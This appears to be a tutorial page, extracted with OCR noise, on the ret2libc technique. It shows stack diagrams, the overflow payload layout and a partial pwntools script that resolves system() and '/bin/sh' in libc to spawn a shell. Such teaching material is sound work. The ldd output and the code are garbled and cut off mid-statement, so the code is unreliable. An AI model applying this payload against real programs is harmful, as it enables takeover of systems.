Ret2libc, short for "return-to-libc," is a type of attack that allows an attacker to execute arbitrary code in a program by redirecting the program's execution flow to a function in the libc shared library.

How it works ?

The main idea is to make a simulate a valid call to the system() function by arranging the stack correctly so that the system() function launches a shell.

The execution of thistechnique may vary depending on the instruction set architecture and the calling convention used. In this article, the x86 standard calling convention will be used as an example.

As explained here, A validsystem() call will push the address of the parameter onto the stack followed by the return address ( saved EIP ) :

  address   |   values
            |   +--- stack frame ---+
            |   | +-saved eip -+ +-- param ---+                              |
0xffffd274: |   | | 0x565561dd | | 0xffffd35c | 0x00000002  0x00000001   |
            |   | +---+ +---+                              |
0xffffd284: |   |   0xffffd354    0xffffd35c    0x00000000  0xffffd2b0   |
0xffffd294: |   |   0xffffd354    0xffffd35c    0x00000000  0xffffd2b0   |
  ...       |    ...

When a function ends and calls the RET instruction, it is actually a POP EIP that is performed, followed by a JMP EIP. The POP EIP takes the value that is on top of the stack and stores it in the EIP register. Since this value is controled (using a Buffer overflow or format string exploit for example), the JMP EIP is controled.

So, there is the stack state after a buffer overflow in order to return to the system function with a valid call :

  address   |   values
            |   +--- Buffer ---+
0xffffd264: |   |   0x41414141    0x41414141    0x41414141      0x41414141   |
            |   +---+
            |     +system addr-+ +-saved eip -+ +--- param --+               |
0xffffd274: |     | 0x565561dd | | 0xffffd35c | | 0xffffd12c |  0x00000001   |
            |     +---+ +---++---+               |
  ...       |    ...

Because of the call of system the return address (saved EIP) isn't important, so any value can be send here.

In order to make the stack in this state, the following payload must be used :

[buffer overflow needed lenght][system() address][any 4 bytes][parameter address]

Getting libc base address

$ ldd chall (0xf7f64000) => /lib/i386-linux-gnu/ (0xf7d51000)
    /lib/ (0xf7f66000)

If the ASLR is enable, this will not work and the libc address must be leak.

Getting the "/bin/sh" and "system()" addresses

Using pwntools, it's easy to retrieve theses addresses till the libc version and base address are known :

from pwn import *

# Load the binary file and start the process
elf = context.binary = ELF('./chall')
p = process()

# Load the libc library and set its base address
libc = elf.libc
libc.address =0xf7dc2000

# Get the address of the system function in the libc library
system = libc.sym['system']

# Search for the'/bin/sh' string in the libc library and get its address
binsh = next('/bin/sh'))


# 32-bits
payload = flat(
          b'A' * offset,
# 64-bitspayload = flat(
          b'A' * offset,


Last updated